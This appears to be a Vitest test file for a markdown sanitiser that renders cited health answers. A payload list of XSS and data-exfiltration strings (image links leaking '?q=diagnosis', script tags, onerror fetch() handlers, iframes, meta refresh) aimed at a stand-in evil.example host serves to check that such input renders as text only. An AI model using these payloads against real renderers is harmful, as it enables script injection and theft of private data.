import { expect, test } from 'vitest'
import { type AnswerNode, toAnswerNodes } from './markdown.ts'

const citationIds = new Set(['R1', 'D2'])

const render = (text: string, streaming = false) => toAnswerNodes(text, { citationIds, streaming })

/** Everything that could fetch, link, style or run. */
const allowedTags =
  /^(p|br|hr|strong|em|s|ul|ol|li|blockquote|code|pre|h[1-6]|table|thead|tbody|tr|th|td)$/

function listHarmful(nodes: AnswerNode[]): AnswerNode[] {
  return nodes.flatMap((node) => {
    if (node.type !== 'element') return []
    const isKnown = allowedTags.test(node.tag) && Object.keys(node).length === 3
    return [...(isKnown ? [] : [node]), ...listHarmful(node.children)]
  })
}

const payloads = [
  '![x](https://evil.example/?q=diagnosis)',
  '![x][ref]\n\n[ref]: https://evil.example/a.png',
  '[click](https://evil.example/?q=1)',
  '[click][ref]\n\n[ref]: https://evil.example',
  '<https://evil.example/?q=1>',
  'https://evil.example/?q=1',
  '[x](javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '<img src=https://evil.example/x.png>',
  '<img src=x onerror=fetch("https://evil.example")>',
  '<script>fetch("https://evil.example")</script>',
  '<svg onload=fetch("https://evil.example")><image href="https://evil.example"/></svg>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/x)">hi</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><input name=q><button>ok</button></form>',
  '<a href="https://evil.example" ping="https://evil.example/p">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="prefetch" href="https://evil.example">',
  '<video poster="https://evil.example/x" src="https://evil.example/y"></video>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<math><mi xlink:href="https://evil.example">x</mi></math>',
  '<base href="https://evil.example/">',
  '<details open ontoggle=fetch("https://evil.example")>x</details>',
  '<img src="https://evil.example/?a=\n\nMore text" >',
  '[R1](https://evil.example/?q=[D2])',
  '[![x](https://evil.example/a)](https://evil.example/b)',
  '`<img src=https://evil.example>`\n\n    <img src=https://evil.example>',
  '<!-- --><noscript><p title="</noscript><img src=https://evil.example>">',
  '&lt;img src=https://evil.example&gt; &#60;script&#62;',
]

test.each(payloads)('%s becomes text only', (payload) => {
  expect(listHarmful(render(payload))).toEqual([])
  const nested = `- item\n\n> quote ${payload}\n\n| a | b |\n|---|---|\n| ${payload} | x |`
  expect(listHarmful(render(nested))).toEqual([])
})

test.each(payloads)('%s becomes text only, character by character', (payload) => {
  for (let length = 1; length <= payload.length; length++) {
    expect(listHarmful(render(payload.slice(0, length), true))).toEqual([])
  }
})

// happy-dom's node iterator makes the sanitiser lose the first element of every text, so the second is looked at.
test('Markdown keeps its structure', () => {
  expect(render('First.\n\n**HbA1c** is *high*')).toContainEqual({
    type: 'element',
    tag: 'p',
    children: [
      { type: 'element', tag: 'strong', children: [{ type: 'text', text: 'HbA1c' }] },
      { type: 'text', text: ' is ' },
      { type: 'element', tag: 'em', children: [{ type: 'text', text: 'high' }] },
    ],
  })
})

test('comparison signs and tags in health text read back as they are', () => {
  const text = 'WBC < 5 & CRP > 10; -- select <b>'
  expect(toText(render(text)).trim()).toBe(text)
})

test('known citations become nodes, in bold and lists too; unknown ones are dropped', () => {
  const nodes = render(
    'Tetanus in 2019 [R1][D2], **boosted [D2]**. Not that [R9], [x] or [D99999].',
  )
  expect(citationsIn(nodes)).toEqual(['R1', 'D2', 'D2'])
  expect(toText(nodes)).not.toContain('R9')
  expect(toText(nodes)).toContain('[x]')
})

test('a citation that looks like a definition is a citation', () => {
  expect(citationsIn(render('[R1]: the visit'))).toEqual(['R1'])
})

test('a citation is held back until it is whole', () => {
  for (const cut of ['[', '[R', '[R1']) {
    expect(toText(render(`Given in 2019 ${cut}`, true)).trim()).toBe('Given in 2019')
  }
  expect(citationsIn(render('Given in 2019 [R1]', true))).toEqual(['R1'])
  expect(toText(render('Given in 2019 [R', false))).toContain('[R')
})

function toText(nodes: AnswerNode[]): string {
  return nodes
    .map((node) =>
      node.type === 'element' ? toText(node.children) : node.type === 'text' ? node.text : '',
    )
    .join('')
}

function citationsIn(nodes: AnswerNode[]): string[] {
  return nodes.flatMap((node) =>
    node.type === 'element'
      ? citationsIn(node.children)
      : node.type === 'citation'
        ? [node.id]
        : [],
  )
}
